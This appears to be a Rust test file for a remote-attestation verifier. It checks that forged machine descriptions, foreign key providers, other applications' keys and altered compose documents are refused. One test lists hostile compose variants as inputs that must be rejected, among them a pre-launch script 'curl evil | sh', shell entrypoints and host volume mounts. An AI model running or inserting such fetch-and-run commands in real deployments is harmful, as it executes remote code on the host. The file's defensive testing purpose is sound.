//! Machines of somebody else who shows what an accepted service has published: its events, documents and custody, under a
//! keyset of his own. He chooses what he boots and what he runs; the platform is genuine, the quote fresh.

use cloister_app_compose::ComposeHash;
use serde_json::{Value, json};

use super::World;
use super::service::{COMPOSE, IMAGE};
use crate::lab::machine;

const NOTHING_ACCEPTED: &str = "booted nothing that is accepted";
const NO_KMS: &str = "from no accepted KMS";

/// His compose document.
fn own() -> String {
    COMPOSE.replace(IMAGE, &format!("sha256:{}", "6".repeat(64)))
}

/// Only the subject, by which the KMS's own rules decide what runs.
fn subject() -> Value {
    json!({})
}

fn documents(hash: &ComposeHash) -> Value {
    json!({"accepted_subjects": [], "accepted_compose_hashes": [hash.to_string()]})
}

fn images(digests: &[&str]) -> Value {
    json!({"accepted_subjects": [], "accepted_image_digests": digests})
}

fn registers(kernel: &str) -> Value {
    json!({
        "accepted_os_image_hashes": [],
        "accepted_boot_registers": [machine::boot(&machine::image("older")), machine::boot(&machine::image(kernel))],
    })
}

/// His own system measures what the accepted one would, and repeats everything that is public.
#[tokio::test]
async fn a_system_of_his_own_says_nothing_true() {
    let world = World::new().await;
    world.service.change(|parts| parts.image = machine::image("his own kernel"));
    for rule in [subject(), documents(&ComposeHash::of(COMPOSE.as_bytes())), images(&[IMAGE])] {
        let reason = world.refusal(&rule).await;
        assert!(reason.contains(NOTHING_ACCEPTED), "{reason}");
    }
    let reason = world.refusal(&registers("kernel")).await;
    assert!(reason.contains(NOTHING_ACCEPTED), "{reason}");
    // It is described as what it is not.
    let accepted = world.service.machine.evidence(&machine::image("kernel"), &[], [0; 64], |_| {}).vm_config;
    world.service.change(|parts| {
        parts.on_the_way = Box::new(move |report| {
            report["attestation"]["evidence"]["vm_config"] = json!(accepted);
        });
    });
    let reason = world.refusal(&subject()).await;
    assert!(reason.contains("booted something else"), "{reason}");
}

/// What is compared with registers alone, as on hardware: no description leads to them.
#[tokio::test]
async fn registers_are_demanded_where_no_description_leads_to_them() {
    let world = World::new().await;
    let undescribed = |report: &mut Value| report["attestation"]["evidence"]["vm_config"] = json!("");
    world.service.change(|parts| parts.on_the_way = Box::new(undescribed));
    world.channel(&world.route_with(&registers("kernel"))).await.unwrap();
    assert_eq!(world.listed().len(), 1);
    for rule in [registers("another kernel"), subject()] {
        let reason = world.refusal(&rule).await;
        assert!(reason.contains("description of the machine"), "{reason}");
    }
    // Those of another quote.
    world.service.change(|parts| parts.image = machine::image("his own kernel"));
    let reason = world.refusal(&registers("kernel")).await;
    assert!(reason.contains("description of the machine"), "{reason}");
}

/// The accepted system runs his document under the accepted name. No KMS gave it keys for that.
#[tokio::test]
async fn the_accepted_name_over_a_document_of_his_own() {
    let world = World::new().await;
    for (name, id) in
        [("none", ""), ("local-sgx", ""), ("kms", ""), ("kms", "3059aa"), ("tpm", machine::KEY_PROVIDER)]
    {
        world.service.change(|parts| {
            parts.compose_is(&own());
            parts.event("key-provider").payload = machine::key_provider(name, id);
        });
        let reason = world.refusal(&subject()).await;
        assert!(reason.contains(NO_KMS), "{name} {id}: {reason}");
    }
    world.service.change(|parts| parts.events.retain(|event| event.name != "key-provider"));
    let reason = world.refusal(&subject()).await;
    assert!(reason.contains(NO_KMS), "{reason}");
}

/// With keys of the accepted KMS, but for an application of his own.
#[tokio::test]
async fn the_custody_of_another_application() {
    let world = World::new().await;
    world.service.change(|parts| {
        parts.compose_is(&own());
        parts.event("app-id").payload = vec![6; 20];
        parts.keyset.subject = None;
    });
    let reason = world.refusal(&subject()).await;
    assert!(reason.contains("not an accepted one"), "{reason}");
    let reason = world.refusal(&documents(&ComposeHash::of(own().as_bytes()))).await;
    assert!(reason.contains("no accepted KMS root"), "{reason}");
}

#[tokio::test]
async fn a_document_is_accepted_byte_for_byte() {
    let world = World::new().await;
    let accepted = documents(&ComposeHash::of(COMPOSE.as_bytes()));
    let claims = world.channel(&world.route_with(&accepted)).await.unwrap().claims.clone();
    let reason = claims.serving_software_known_good.reason.unwrap();
    assert!(reason.contains("compose document is one"), "{reason}");
    world.service.change(|parts| parts.compose_is(&format!("{COMPOSE} ")));
    let reason = world.refusal(&accepted).await;
    assert!(reason.contains("not an accepted one"), "{reason}");
}

#[tokio::test]
async fn images_are_accepted_where_nothing_else_decides_what_runs() {
    let other = format!("sha256:{}", "2".repeat(64));
    let world = World::new().await;
    let with = async |compose: &str, digests: &[&str]| {
        world.service.change(|parts| parts.compose_is(compose));
        world.time.advance(400);
        world.channel(&world.route_with(&images(digests))).await.map(drop).map_err(|error| error.to_string())
    };
    let second =
        COMPOSE.replace("services:\\n", &format!("services:\\n  other:\\n    image: other@{other}\\n"));
    let agent = COMPOSE.replace(
        "\\n\"",
        "\\n    volumes:\\n      - /var/run/dstack.sock:/var/run/dstack.sock\\n    ports: ['443:8086']\\n\"",
    );
    let kms = COMPOSE.replace(r#""name""#, r#""kms_enabled":true,"allowed_envs":[],"name""#);
    with(COMPOSE, &[IMAGE]).await.unwrap();
    with(&agent, &[IMAGE]).await.unwrap();
    with(&kms, &[IMAGE]).await.unwrap();
    with(&second, &[IMAGE, &other]).await.unwrap();
    let refused = Err("the measured application is not an accepted one".to_owned());
    assert_eq!(with(COMPOSE, &[&other]).await, refused);
    assert_eq!(with(&second, &[IMAGE]).await, refused);
    let in_service = |line: &str| COMPOSE.replace("\\n\"", &format!("\\n    {line}\\n\""));
    let beside = |line: &str| COMPOSE.replace("services:\\n", &format!("{line}\\nservices:\\n"));
    let member = |member: &str| COMPOSE.replace(r#""name""#, &format!(r#"{member},"name""#));
    for compose in [
        in_service("entrypoint: [sh, -c, evil]"),
        in_service("command: evil"),
        in_service("environment: {UPSTREAM: evil}"),
        in_service("configs: [evil]"),
        in_service("extends: {file: evil.yml, service: evil}"),
        in_service("volumes: [/evil:/app]"),
        in_service("volumes: [data:/app]"),
        beside("include: [evil.yml]"),
        beside("configs: {evil: {content: evil}}"),
        COMPOSE.replace("gateway@sha256", "$IMAGE@sha256"),
        COMPOSE.replace(IMAGE, "latest"),
        COMPOSE.replace("docker-compose", "bash"),
        COMPOSE.replace(r#""manifest_version":2"#, r#""manifest_version":3"#),
        COMPOSE.replace(r#""pre_launch_script":"""#, r#""pre_launch_script":"curl evil | sh""#),
        COMPOSE.replace(r#","runner":"docker-compose""#, ""),
        member(r#""init_script":["evil"]"#),
        member(r#""allowed_envs":["UPSTREAM"]"#),
        member(r#""verity_volumes":[{}]"#),
        member(r#""something_new":true"#),
        member(r#""runner":"bash""#),
    ] {
        assert_eq!(with(&compose, &[IMAGE]).await, refused, "{compose}");
    }
}
